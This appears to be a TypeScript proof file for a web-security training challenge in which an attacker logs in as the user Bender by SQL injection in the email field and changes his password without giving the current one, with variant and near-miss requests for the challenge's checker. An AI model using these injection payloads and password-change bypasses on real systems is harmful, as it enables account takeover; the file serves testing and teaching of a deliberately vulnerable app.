import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const NEW = 'slurmCl4ssic'
const OLD = 'OhG0dPlease1nsertLiquor!'

/** Returns the headers of a session opened by SQL injection, which skips the password check. */
async function sessionOf(attacker: Attacker, name: string) {
  const email = `${name}@${attacker.domain}`
  for (const injected of [`${email}'--`, `${email}' or email='${email}`]) {
    const answer = await attacker.post('/rest/user/login', { email: injected, password: 'x' })
    if (answer.status === 200) return { authorization: `Bearer ${answer.json().authentication.token}` }
  }
  throw new Error('No injection opened a session.')
}

/** Changes the password in a session of Bender's. @param query query string without the question mark */
const change =
  (query: string, name = 'bender') =>
  async (attacker: Attacker) =>
    attacker.get(`/rest/user/change-password?${query}`, { headers: await sessionOf(attacker, name) })

const both = (password: string) => `new=${password}&repeat=${password}`

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const headers = await sessionOf(attacker, 'bender')
    // The server checks a wrong current password, but not a missing one.
    await attacker.get(`/rest/user/change-password?current=guess&${both(NEW)}`, { headers })
    await attacker.get(`/rest/user/change-password?${both(NEW)}`, { headers })
  },
  spellings: {
    'with the field left empty': change(`current=&${both(NEW)}`),
    'with the repetition first': change(`repeat=${NEW}&new=${NEW}`),
    'with letters encoded': change('new=%73lurmCl4ssic&repeat=slurmCl4ssi%63'),
    'with the field under another name': change(`Current=guess&${both(NEW)}`),
    'with fields that nobody asked for': change(`${both(NEW)}&id=3&force=true`),
    'after another password': async (attacker) => {
      await change(both('slurmClassic'))(attacker)
      await change(both(NEW))(attacker)
    },
  },
  nearMisses: {
    'with the current password, as its owner does': change(`current=${encodeURIComponent(OLD)}&${both(NEW)}`),
    'with a wrong current password': change(`current=guess&${both(NEW)}`),
    'with another new password': change(both('slurmClassic')),
    'with the new password in small letters': change(both('slurmcl4ssic')),
    'with a repetition that differs': change(`new=${NEW}&repeat=slurmCl4ss1c`),
    'for somebody else': change(both(NEW), 'jim'),
    'for oneself': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.get(`/rest/user/change-password?${both(NEW)}`)
    },
    'without a session': (attacker) => attacker.get(`/rest/user/change-password?${both(NEW)}`),
    'by a question that others can answer': (attacker) =>
      attacker.post('/rest/user/reset-password', {
        email: `bender@${attacker.domain}`,
        answer: "Stop'n'Drop",
        new: NEW,
        repeat: NEW,
      }),
    'in the session alone': (attacker) => sessionOf(attacker, 'bender'),
  },
})
